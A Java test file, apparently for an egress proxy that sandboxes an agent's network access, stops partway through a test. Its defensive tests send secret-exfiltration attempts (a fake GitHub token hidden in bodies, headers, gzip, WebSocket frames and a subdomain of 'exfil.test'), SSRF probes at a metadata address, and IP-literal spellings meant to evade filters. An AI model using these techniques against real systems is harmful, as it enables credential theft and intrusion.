package dev.claudebottle.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.WebSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.TimeUnit;
import java.util.function.UnaryOperator;
import java.util.zip.GZIPOutputStream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.claudebottle.egress.audit.AuditRecord;
import dev.claudebottle.egress.config.AllowRule;
import dev.claudebottle.egress.config.CredentialBinding;
import dev.claudebottle.egress.config.DlpSettings;
import dev.claudebottle.egress.config.Limits;
import dev.claudebottle.egress.config.RefusalHints;
import dev.claudebottle.egress.testing.ProxyFixture;
import dev.claudebottle.egress.testing.RawClient;
import dev.claudebottle.egress.testing.TestOrigin;
import dev.claudebottle.egress.tls.CertificateAuthority;

/** End-to-end tests: real sockets on 127.0.0.1, a real TLS client, real TLS origins. */
class EgressProxyTest {

    /** A made-up value shaped like a classic GitHub token; it grants nothing anywhere. */
    static final String GITHUB_TOKEN = "ghp_" + "Xk7Qp2Lm9Rt4Vw8Yz3Bn6Cd1Fg5Hj0Ks2Ty7";

    @TempDir
    Path dir;

    private ProxyFixture fixture;

    ProxyFixture start() {
        return start(UnaryOperator.identity());
    }

    ProxyFixture start(UnaryOperator<EgressConfig.Builder> customise) {
        fixture = new ProxyFixture(dir, customise);
        return fixture;
    }

    @AfterEach
    void stop() {
        if (fixture != null) {
            fixture.close();
        }
        LeakWatch.assertNoLeaks();
    }

    static HttpResponse<String> get(HttpClient client, String url) throws Exception {
        return client.send(HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    static HttpResponse<String> post(HttpClient client, String url, byte[] body, String... headers)
            throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(10))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (headers.length > 0) {
            b.headers(headers);
        }
        return client.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    @Nested
    class Forwarding {

        @Test
        void bumpedHttpsReachesOrigin() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = get(f.client(), f.tlsBase() + "/hello?x=1");

            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.body()).contains("uri=/hello?x=1");
            TestOrigin.Received received = f.tlsOrigin().take();
            assertThat(received.headers().get("host")).isEqualTo("origin.test:" + f.tlsOrigin().port());
            assertThat(received.headers().get("via")).contains("claude-bottle-egress");
            AuditRecord record = f.awaitAudit(r -> r.method().equals("GET"));
            assertThat(record.decision()).isEqualTo(AuditRecord.Decision.ALLOWED);
            assertThat(record.path()).isEqualTo("/hello?x=");
        }

        @Test
        void keepAliveServesSeveralRequests() throws Exception {
            ProxyFixture f = start();
            HttpClient client = f.client();

            for (int i = 0; i < 5; i++) {
                assertThat(get(client, f.tlsBase() + "/n" + i).body()).contains("uri=/n" + i);
            }
            String body = post(client, f.tlsBase() + "/up", "hello".repeat(20_000).getBytes()).body();

            assertThat(body).contains("bytes=100000");
        }

        @Test
        void plainHttpAbsoluteFormIsForwarded() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = get(f.client(), f.plainBase() + "/plain");

            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(f.plainOrigin().take().uri()).isEqualTo("/plain");
        }

        @Test
        void serverSentEventArrivesBeforeResponseEnds() throws Exception {
            ProxyFixture f = start();
            HttpResponse<InputStream> response = f.client().send(HttpRequest.newBuilder(
                    URI.create(f.tlsBase() + "/sse")).build(), HttpResponse.BodyHandlers.ofInputStream());
            InputStream in = response.body();

            byte[] first = in.readNBytes("data: one\n\n".length());
            f.tlsOrigin().releaseSse();
            String rest = new String(in.readAllBytes(), StandardCharsets.UTF_8);

            assertThat(new String(first, StandardCharsets.UTF_8)).isEqualTo("data: one\n\n");
            assertThat(rest).isEqualTo("data: two\n\n");
        }

        @Test
        void http10ClientGetsUnchunkedBody() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("GET " + f.plainBase() + "/sse HTTP/1.0\r\nHost: plain.test\r\n\r\n");
                String head = raw.readHead();
                assertThat(raw.readBytes("data: one\n\n".length())).isEqualTo("data: one\n\n");
                f.plainOrigin().releaseSse();

                String rest = raw.readAll();

                assertThat(head).startsWith("HTTP/1.1 200").doesNotContainIgnoringCase("transfer-encoding");
                assertThat(rest).isEqualTo("data: two\n\n");
            }
        }

        @Test
        void largeResponseHeaderIsRelayed() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = get(f.client(), f.tlsBase() + "/big-header");

            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.headers().firstValue("x-big")).get().asString().hasSize(20_000);
        }

        @Test
        void halfClosedClientStillGetsResponse() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("GET " + f.plainBase() + "/half HTTP/1.1\r\nHost: plain.test\r\n\r\n");
                raw.shutdownOutput();

                String response = raw.readAll();

                assertThat(response).startsWith("HTTP/1.1 200").contains("uri=/half").doesNotContain("<timeout>");
            }
        }

        @Test
        void caCertificateIsWrittenToCertOut() throws Exception {
            ProxyFixture f = start();

            String pem = java.nio.file.Files.readString(dir.resolve("proxy-ca.pem"));

            assertThat(pem).startsWith("-----BEGIN CERTIFICATE-----");
            assertThat(pem).isEqualTo(f.proxy().caCertificatePem());
            assertThat(f.proxy().caCertificate().getBasicConstraints()).isGreaterThanOrEqualTo(0);
        }

        @Test
        void auditFileHoldsOneJsonLinePerDecision() throws Exception {
            ProxyFixture f = start();
            get(f.client(), f.tlsBase() + "/a?token=" + "abc");
            f.awaitAudit(r -> r.method().equals("GET"));

            f.close();
            fixture = null;
            String log = java.nio.file.Files.readString(dir.resolve("audit.jsonl"));

            assertThat(log.lines()).anyMatch(l -> l.contains("\"method\":\"GET\"")
                    && l.contains("\"path\":\"/a?token=\"") && l.contains("\"decision\":\"allowed\""));
            assertThat(log).doesNotContain("abc");
        }
    }

    @Nested
    class Allowlisting {

        @Test
        void hostNotListedGets403WithHowToAsk() throws Exception {
            ProxyFixture f = start(b -> b.resolve("blocked.test", List.of(InetAddress.getLoopbackAddress())));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT blocked.test:443 HTTP/1.1\r\nHost: blocked.test:443\r\n\r\n");

                String response = raw.readAll();

                assertThat(response).startsWith("HTTP/1.1 403");
                assertThat(response).contains("rule: not_allowlisted").contains(RefusalHints.DEFAULTS.access());
            }
            assertThat(f.awaitRule("not_allowlisted").host()).isEqualTo("blocked.test");
        }

        @Test
        void configuredAccessHintEndsRefusal() throws Exception {
            RefusalHints hints = new RefusalHints("Ask in #platform for the host.", "Drop the secret.");
            ProxyFixture f = start(b -> b.hints(hints)
                    .resolve("blocked.test", List.of(InetAddress.getLoopbackAddress())));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT blocked.test:443 HTTP/1.1\r\nHost: blocked.test:443\r\n\r\n");

                String response = raw.readAll();

                assertThat(response).contains("rule: not_allowlisted").endsWith("Ask in #platform for the host.\n");
            }
        }

        @Test
        void jdkClientSeesRefusedTunnel() {
            ProxyFixture f = start();

            assertThatThrownBy(() -> get(f.client(), "https://blocked.test/"))
                    .isInstanceOf(IOException.class).hasMessageContaining("403");
        }

        @Test
        void portNotListedIsRefused() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT origin.test:443 HTTP/1.1\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("port_not_allowed");
            }
        }

        @Test
        void wildcardDoesNotCoverApexAndSaysSo() throws Exception {
            ProxyFixture f = start(b -> b.allow(new AllowRule("*.example.test", List.of(), false)));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT example.test:443 HTTP/1.1\r\n\r\n");

                assertThat(raw.readAll()).contains("covers subdomains of example.test but not the name itself");
            }
        }

        @Test
        void ipLiteralSpellingsAreRefused() throws Exception {
            ProxyFixture f = start();
            for (String host : List.of("127.0.0.1", "0x7f.1", "2130706433", "017700000001", "0x7f000001",
                    "127.1", "[::ffff:127.0.0.1]", "[::1]")) {
                try (RawClient raw = new RawClient(f.proxyPort())) {
                    raw.send("CONNECT " + host + ":443 HTTP/1.1\r\n\r\n");

                    assertThat(raw.readAll()).as(host).startsWith("HTTP/1.1 403").contains("rule: ip_literal");
                }
            }
        }

        @Test
        void reloadChangesPolicyWithoutDroppingConnections() throws Exception {
            ProxyFixture f = start();
            HttpClient client = f.client();
            assertThat(get(client, f.tlsBase() + "/before").statusCode()).isEqualTo(200);

            f.proxy().reload(List.of(new AllowRule(ProxyFixture.PLAIN_HOST,
                    List.of(f.plainOrigin().port()), true)));

            assertThat(get(client, f.tlsBase() + "/after").statusCode())
                    .as("request on the tunnel opened before the reload").isEqualTo(200);
            assertThatThrownBy(() -> get(f.client(), f.tlsBase() + "/new-client"))
                    .isInstanceOf(IOException.class).hasMessageContaining("403");
        }
    }

    @Nested
    class Lifecycle {

        @Test
        void sharedEventLoopGroupServesRequests() throws Exception {
            io.netty.channel.EventLoopGroup group = new io.netty.channel.MultiThreadIoEventLoopGroup(2,
                    io.netty.channel.nio.NioIoHandler.newFactory());
            try (TestOrigin origin = new TestOrigin(null);
                 EgressProxy proxy = EgressProxy.start(EgressConfig.builder()
                         .listen(new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), 0))
                         .allow(new AllowRule("plain.test", List.of(origin.port()), true))
                         .resolve("plain.test", List.of(InetAddress.getLoopbackAddress()))
                         .build(), group)) {
                HttpClient client = HttpClient.newBuilder()
                        .proxy(java.net.ProxySelector.of(proxy.address())).build();

                HttpResponse<String> response = get(client, "http://plain.test:" + origin.port() + "/shared");

                assertThat(response.statusCode()).isEqualTo(200);
            } finally {
                group.shutdownGracefully(0, 1, TimeUnit.SECONDS).syncUninterruptibly();
            }
        }

        @Test
        void reloadWithConfigReplacesResolveAndAllowlist() throws Exception {
            ProxyFixture f = start();
            EgressConfig next = f.proxy().config().toBuilder()
                    .allow(new AllowRule("renamed.test", List.of(f.plainOrigin().port()), true))
                    .resolve("renamed.test", List.of(InetAddress.getLoopbackAddress()))
                    .build();

            f.proxy().reload(next);
            f.proxy().reload(List.of(new AllowRule("renamed.test", List.of(f.plainOrigin().port()), true)));
            HttpResponse<String> response = get(f.client(), "http://renamed.test:" + f.plainOrigin().port() + "/r");

            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(f.proxy().config().allowlist()).hasSize(1);
        }

        @Test
        void givenCaSurvivesRestart() {
            CertificateAuthority ca = CertificateAuthority.generate("restart");
            EgressConfig config = EgressConfig.builder()
                    .listen(new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), 0))
                    .ca(ca)
                    .build();

            java.security.cert.X509Certificate first;
            try (EgressProxy proxy = EgressProxy.start(config)) {
                first = proxy.caCertificate();
            }
            try (EgressProxy again = EgressProxy.start(config)) {
                assertThat(again.caCertificate()).isEqualTo(first).isEqualTo(ca.certificate());
            }
        }

        @Test
        void caObjectAndCaFilesTogetherFail() {
            EgressConfig.Builder builder = EgressConfig.builder()
                    .ca(CertificateAuthority.generate("both"))
                    .caFiles(Path.of("ca.pem"), Path.of("ca.key"));

            assertThatThrownBy(builder::build)
                    .isInstanceOf(EgressProxyException.class)
                    .hasMessageContaining("give one of them");
        }

        @Test
        void occupiedPortFailsWithClearMessage() {
            ProxyFixture f = start();

            assertThatThrownBy(() -> EgressProxy.start(EgressConfig.builder().listen(f.proxy().address()).build()))
                    .isInstanceOf(EgressProxyException.class).hasMessageContaining("cannot listen on")
                    .hasMessageContaining("choose another");
        }
    }

    @Nested
    class SsrfGuard {

        @Test
        void metadataAddressRefusedBeforeConnect() throws Exception {
            ProxyFixture f = start(b -> b
                    .allow(new AllowRule("metadata.test", List.of(), false))
                    .resolve("metadata.test", List.of(address(169, 254, 169, 254))));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT metadata.test:443 HTTP/1.1\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("rule: private_address")
                        .contains("169.254.169.254").contains("link-local");
            }
            AuditRecord record = f.awaitRule("private_address");
            assertThat(record.bytesUp()).isZero();
            assertThat(record.decision()).isEqualTo(AuditRecord.Decision.REFUSED);
        }

        @Test
        void privateAddressIsRefusedForPlainHttp() throws Exception {
            ProxyFixture f = start(b -> b
                    .allow(new AllowRule("internal.test", List.of(), false))
                    .resolve("internal.test", List.of(address(10, 0, 0, 1))));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("GET http://internal.test/ HTTP/1.1\r\nHost: internal.test\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("10.0.0.1");
            }
            assertThat(f.awaitRule("private_address").host()).isEqualTo("internal.test");
        }

        @Test
        void loopbackWithoutAllowPrivateIsRefused() throws Exception {
            ProxyFixture f = start(b -> b
                    .allow(new AllowRule("loop.test", List.of(), false))
                    .resolve("loop.test", List.of(InetAddress.getLoopbackAddress())));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT loop.test:443 HTTP/1.1\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("loopback");
            }
        }

        @Test
        void requestAimedAtProxyItselfIsRefused() throws Exception {
            ProxyFixture f = start(b -> b.resolve("self.test", List.of(InetAddress.getLoopbackAddress())));
            f.proxy().reload(List.of(new AllowRule("self.test", List.of(f.proxyPort()), true)));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("GET http://self.test:" + f.proxyPort() + "/ HTTP/1.1\r\nHost: self.test\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("rule: loop");
            }
        }

        @Test
        void unresolvableNameIsRefused() throws Exception {
            ProxyFixture f = start(b -> b.allow(new AllowRule("nowhere.invalid", List.of(), false)));
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT nowhere.invalid:443 HTTP/1.1\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("rule: dns_failure");
            }
        }
    }

    @Nested
    class InsideTunnel {

        private RawClient openTunnel(ProxyFixture f, String sni) throws IOException {
            RawClient raw = new RawClient(f.proxyPort());
            raw.send("CONNECT origin.test:" + f.tlsOrigin().port() + " HTTP/1.1\r\n\r\n");
            assertThat(raw.readHead()).startsWith("HTTP/1.1 200");
            raw.startTls(f.trustingProxyCa(), sni);
            return raw;
        }

        @Test
        void hostHeaderMismatchIsRefused() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = openTunnel(f, "origin.test")) {
                raw.send("GET / HTTP/1.1\r\nHost: other.test:" + f.otherOrigin().port() + "\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("rule: host_mismatch");
            }
            assertThat(f.otherOrigin().poll(200)).isNull();
        }

        @Test
        void sniMismatchIsRefused() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT origin.test:" + f.tlsOrigin().port() + " HTTP/1.1\r\n\r\n");
                assertThat(raw.readHead()).startsWith("HTTP/1.1 200");

                assertThatThrownBy(() -> raw.startTls(f.trustingProxyCa(), "other.test"))
                        .isInstanceOf(IOException.class);
            }
            assertThat(f.awaitRule("sni_mismatch").host()).isEqualTo("origin.test");
        }

        @Test
        void missingSniIsRefused() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT origin.test:" + f.tlsOrigin().port() + " HTTP/1.1\r\n\r\n");
                assertThat(raw.readHead()).startsWith("HTTP/1.1 200");

                assertThatThrownBy(() -> raw.startTls(f.trustingProxyCa(), null)).isInstanceOf(IOException.class);
            }
            f.awaitRule("sni_missing");
        }

        @Test
        void plainHttpAfterConnectGetsHttpPolicy() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT plain.test:" + f.plainOrigin().port() + " HTTP/1.1\r\n\r\n");
                assertThat(raw.readHead()).startsWith("HTTP/1.1 200");

                raw.send("GET /inside HTTP/1.1\r\nHost: plain.test:" + f.plainOrigin().port()
                        + "\r\nConnection: close\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 200").contains("uri=/inside");
            }
        }

        @Test
        void garbageAfterConnectIsClosed() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT origin.test:" + f.tlsOrigin().port() + " HTTP/1.1\r\n\r\n");
                assertThat(raw.readHead()).startsWith("HTTP/1.1 200");

                raw.send(new byte[] {0x01, 0x02, 0x03, (byte) 0xff});

                assertThat(raw.closedByPeer()).isTrue();
            }
            f.awaitRule("tunnel_protocol");
        }

        @Test
        void pipelinedClientHelloAfterConnectIsBumped() throws Exception {
            ProxyFixture f = start();
            HttpResponse<String> response = get(f.client(), f.tlsBase() + "/x");
            assertThat(response.statusCode()).isEqualTo(200);
        }
    }

    @Nested
    class Dlp {

        @Test
        void secretInBodyIsBlockedBeforeReachingOrigin() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/upload",
                    ("token=" + GITHUB_TOKEN).getBytes());

            assertThat(response.statusCode()).isEqualTo(403);
            assertThat(response.body()).contains("rule: dlp:github-pat").contains("ghp_…(40 chars)")
                    .doesNotContain(GITHUB_TOKEN);
            assertThat(response.body()).as("a secret refusal gives the secret hint, not the access one")
                    .endsWith(RefusalHints.DEFAULTS.secret() + "\n")
                    .doesNotContain(RefusalHints.DEFAULTS.access());
            assertThat(f.tlsOrigin().poll(300)).isNull();
        }

        @Test
        void secretAtEndOfLargeBodyIsBlocked() throws Exception {
            ProxyFixture f = start();
            byte[] body = ("x".repeat(1 << 20) + GITHUB_TOKEN).getBytes(StandardCharsets.US_ASCII);

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/large", body);

            assertThat(response.statusCode()).isEqualTo(403);
            String seen = f.tlsOrigin().partialBodies().poll(5, TimeUnit.SECONDS);
            assertThat(seen).as("what the origin saw of the aborted upload").isNotNull()
                    .doesNotContain(GITHUB_TOKEN.substring(0, 20));
        }

        @Test
        void secretInQueryIsBlockedAndNotLogged() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = get(f.client(), f.tlsBase() + "/q?key=" + GITHUB_TOKEN);

            assertThat(response.statusCode()).isEqualTo(403);
            AuditRecord record = f.awaitRule("dlp:github-pat");
            assertThat(record.path()).isEqualTo("[redacted]");
            assertThat(AuditLogText.of(record)).doesNotContain(GITHUB_TOKEN);
        }

        @Test
        void secretAsWildcardLabelIsBlockedAndRedacted() throws Exception {
            ProxyFixture f = start(b -> b.allow(new AllowRule("*.exfil.test", List.of(), true))
                    .resolve(GITHUB_TOKEN.toLowerCase() + ".exfil.test", List.of(InetAddress.getLoopbackAddress())));
            String response;
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("CONNECT " + GITHUB_TOKEN + ".exfil.test:443 HTTP/1.1\r\n\r\n");
                response = raw.readAll();
            }

            assertThat(response).startsWith("HTTP/1.1 403").doesNotContainIgnoringCase(GITHUB_TOKEN);
            AuditRecord record = f.awaitAudit(r -> r.rule() != null && r.rule().startsWith("dlp:"));
            assertThat(record.host()).isEqualTo("[redacted]");
        }

        @Test
        void secretInHeaderIsBlocked() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = f.client().send(HttpRequest.newBuilder(URI.create(f.tlsBase() + "/h"))
                    .header("X-Token", GITHUB_TOKEN).build(), HttpResponse.BodyHandlers.ofString());

            assertThat(response.statusCode()).isEqualTo(403);
        }

        @Test
        void base64EncodedSecretIsBlocked() throws Exception {
            ProxyFixture f = start();
            String encoded = Base64.getEncoder().encodeToString(("{\"k\":\"" + GITHUB_TOKEN + "\"}").getBytes());

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/b", ("data=" + encoded).getBytes());

            assertThat(response.statusCode()).isEqualTo(403);
        }

        @Test
        void secretSplitAcrossChunksNeverReachesOrigin() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("POST " + f.plainBase() + "/split HTTP/1.1\r\nHost: plain.test\r\n"
                        + "Transfer-Encoding: chunked\r\n\r\n");
                String first = "x".repeat(5000) + GITHUB_TOKEN.substring(0, 20);
                String second = GITHUB_TOKEN.substring(20) + " tail";
                raw.send(Integer.toHexString(first.length()) + "\r\n" + first + "\r\n");
                raw.send(Integer.toHexString(second.length()) + "\r\n" + second + "\r\n0\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("dlp:github-pat");
            }
            String seen = f.plainOrigin().partialBodies().poll(5, TimeUnit.SECONDS);
            assertThat(seen).as("what the origin saw of the aborted request").isNotNull()
                    .doesNotContain(GITHUB_TOKEN.substring(0, 20));
        }

        @Test
        void secretInChunkTrailerIsBlocked() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("POST " + f.plainBase() + "/t HTTP/1.1\r\nHost: plain.test\r\n"
                        + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-Sig: " + GITHUB_TOKEN + "\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 403").contains("trailers");
            }
            assertThat(f.plainOrigin().poll(200)).isNull();
        }

        @Test
        void brokenChunkIsNotForwardedAsComplete() throws Exception {
            ProxyFixture f = start();
            try (RawClient raw = new RawClient(f.proxyPort())) {
                raw.send("POST " + f.plainBase() + "/c HTTP/1.1\r\nHost: plain.test\r\n"
                        + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nZZ\r\nbad\r\n0\r\n\r\n");

                assertThat(raw.readAll()).startsWith("HTTP/1.1 400");
            }
            assertThat(f.plainOrigin().poll(300)).as("origin must not get a complete request").isNull();
        }

        @Test
        void gzipEncodedSecretIsBlocked() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/gz",
                    gzip(("pad ".repeat(1000) + GITHUB_TOKEN).getBytes()), "Content-Encoding", "gzip");

            assertThat(response.statusCode()).isEqualTo(403);
            assertThat(f.tlsOrigin().poll(300)).isNull();
        }

        @Test
        void cleanGzipBodyPasses() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/gz",
                    gzip("hello world".repeat(1000).getBytes()), "Content-Encoding", "gzip");

            assertThat(response.statusCode()).isEqualTo(200);
        }

        @Test
        void compressionBombGets413() throws Exception {
            ProxyFixture f = start(b -> b.dlp(new DlpSettings(true, DlpSettings.Action.BLOCK, 16L << 20,
                    DlpSettings.PastMax.REFUSE, 1L << 20)));
            byte[] bomb = gzip(new byte[50 << 20]);

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/bomb", bomb,
                    "Content-Encoding", "gzip");

            assertThat(response.statusCode()).isEqualTo(413);
            assertThat(f.awaitRule("decoded_body_too_large").status()).isEqualTo(413);
        }

        @Test
        void bodyPastScanLimitIsRefusedByDefault() throws Exception {
            ProxyFixture f = start(b -> b.dlp(new DlpSettings(true, DlpSettings.Action.BLOCK, 64 * 1024,
                    DlpSettings.PastMax.REFUSE, 1L << 20)));

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/big", new byte[200_000]);

            assertThat(response.statusCode()).isEqualTo(413);
        }

        @Test
        void unsupportedEncodingIsRefused() throws Exception {
            ProxyFixture f = start();

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/c", "abc".getBytes(),
                    "Content-Encoding", "compress");

            assertThat(response.statusCode()).isEqualTo(415);
        }

        @Test
        void warnActionForwardsAndRecords() throws Exception {
            ProxyFixture f = start(b -> b.dlp(new DlpSettings(true, DlpSettings.Action.WARN, 16L << 20,
                    DlpSettings.PastMax.REFUSE, 64L << 20)));

            HttpResponse<String> response = post(f.client(), f.tlsBase() + "/w", GITHUB_TOKEN.getBytes());

            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(f.awaitRule("dlp:github-pat").decision()).isEqualTo(AuditRecord.Decision.WARNED);
        }

        @Test
        void credentialIsAllowedOnlyTowardItsHost() throws Exception {
            String credential = "cb-test-credential-" + "q8Zr4Lw2Nx7Kp3";
            ProxyFixture f = start(b -> b.credential(CredentialBinding.ofValue("github",
                    credential.getBytes(), ProxyFixture.TLS_HOST)));
            HttpClient client = f.client();

            HttpResponse<String> own = post(client, f.tlsBase() + "/own", ("t=" + credential).getBytes());
            HttpResponse<String> other = post(client, "https://other.test:" + f.otherOrigin().port() + "/leak",
                    ("t=" + credential).getBytes());

            assertThat(own.statusCode()).isEqualTo(200);
            assertThat(other.statusCode()).isEqualTo(403);
            assertThat(other.body()).contains("credential.github").doesNotContain(credential);
        }

        @Test
        void webSocketMessageWithSecretClosesConnection() throws Exception {
            ProxyFixture f = start();
            HttpClient client = f.client();
            CompletableFuture<String> echo = new CompletableFuture<>();
            CompletableFuture<Integer> closed = new CompletableFuture<>();
            WebSocket ws = client.newWebSocketBuilder().buildAsync(URI.create("wss://origin.test:"
                    + f.tlsOrigin().port() + "/ws"), new WebSocket.Listener() {
                        @Override
                        public CompletionStage<?> onText(WebSocket webSocket, CharSequence data, boolean last) {
                            echo.complete(data.toString());
                            webSocket.request(1);
                            return null;
                        }

                        @Override
                        public CompletionStage<?> onClose(WebSocket webSocket, int statusCode, String reason) {
                            closed.complete(statusCode);
                            return null;
                        }

                        @Override
                        public void onError(WebSocket webSocket, Throwable error) {
                            closed.complete(-1);
                        }
                    }).get(10, TimeUnit.SECONDS);

            ws.sendText("hello", true).get(10, TimeUnit.SECONDS);
            assertThat(echo.get(10, TimeUnit.SECONDS)).isEqualTo("echo: hello");
            ws.sendText("part one " + GITHUB_TOKEN.substring(0, 15), false).get(10, TimeUnit.SECONDS);
            ws.sendText(GITHUB_TOKEN.substring(15) + " end", true).get(10, TimeUnit.SECONDS);

            assertThat(closed.get(10, TimeUnit.SECONDS)).isEqualTo(1008);
            assertThat(f.tlsOrigin().webSocketMessages().poll(5, TimeUnit.SECONDS)).isEqualTo("hello");
            assertThat(f.tlsOrigin().webSocketMessages().poll(300, TimeUnit.MILLISECONDS)).isNull();
            f.awaitRule("dlp:github-pat");
        }
    }

    @Nested
    class Upstream {

        @Test
        void upstreamCertificateForAnotherNameGets502() throws Exception {
            ProxyFixture f = start(b -> b.resolve("mismatch.test", List.of(InetAddress.getLoopbackAddress())));
            f.proxy().reload(List.of(new AllowRule("mismatch.test", List.of(f.tlsOrigin().port()), true)));

            HttpResponse<String> response = get(f.client(), "https://mismatch.test:" + f.tlsOrigin().port() + "/");

            assertThat(response.statusCode()).isEqualTo(502);
            assertThat(response.body()).contains("rule: upstream_tls");
            assertThat(f.tlsOrigin().poll(200)).isNull();
        }

        @Test
        void upstreamNotListeningGets502() throws Exception {
            int closedPort;
            try (java.net.ServerSocket s = new java.net.ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
                closedPort = s.getLocalPort();
            }
            int port = closedPort;
            ProxyFixture f = start(b -> b.allow(new AllowRule(ProxyFixture.PLAIN_HOST, List.of(port), true)));

            HttpResponse<String> response = get(f.client(), "http://plain.test:" + port + "/");

            assertThat(response.statusCode()).isEqualTo(502);
            assertThat(f.awaitRule("upstream_unreachable").decision()).isEqualTo(AuditRecord.Decision.FAILED);
        }

        @Test
        void plainWebSocketThroughTunnelIsScanned() throws Exception {
            ProxyFixture f = start();
            CompletableFuture<String> echo = new CompletableFuture<>();
            CompletableFuture<Integer> closed = new CompletableFuture<>();
            WebSocket ws = f.client().newWebSocketBuilder().buildAsync(URI.create("ws://plain.test:"
                    + f.plainOrigin().port() + "/ws"), new WebSocket.Listener() {
                        @Override
                        public CompletionStage<?> onText(WebSocket webSocket, CharSequence data, boolean last) {
                            echo.complete(data.toString());
                            webSocket.request(1);
                            return null;
                        }

                        @Override
                        public CompletionStage<?> onClose(WebSocket webSocket, int statusCode, String reason) {
                            closed.complete(statusCode);
                            return null;
                        }
                    }).get(10, TimeUnit.SECONDS);

            ws.sendText("plain hello", true).get(10, TimeUnit.SECONDS);
            assertThat(echo.get(10, TimeUnit.SECONDS)).isEqualTo("echo: plain hello");
            ws.sendText("secret " + GITHUB_TOKEN, true).get(10, TimeUnit.SECONDS);

            assertThat(closed.get(10, TimeUnit.SECONDS)).isEqualTo(1008);
            assertThat(f.plainOrigin().webSocketMessages().poll(5, TimeUnit.SECONDS)).isEqualTo("plain hello");
            assertThat(f.plainOrigin().webSocketMessages().poll(300, TimeUnit.MILLISECONDS)).isNull();
        }
    }

    @Nested
    class BadInput {

        @Test
        void idleKeptAliveConnectionIsNotASlowClient() throws Exception {
            ProxyFixture f = start(b -> b.limits(new Limits(100, Duration.ofMillis(300), Duration.ofSeconds(30),
                    Duration.ofSeconds(5), 64 * 1024, 16 * 1024)));
            String request = "GET " + f.plainBase() + "/k HTTP/1.1\r\nHost: plain.test\r\n\r\n";
            try (RawClient raw = new RawClient(f.proxyPort())) {
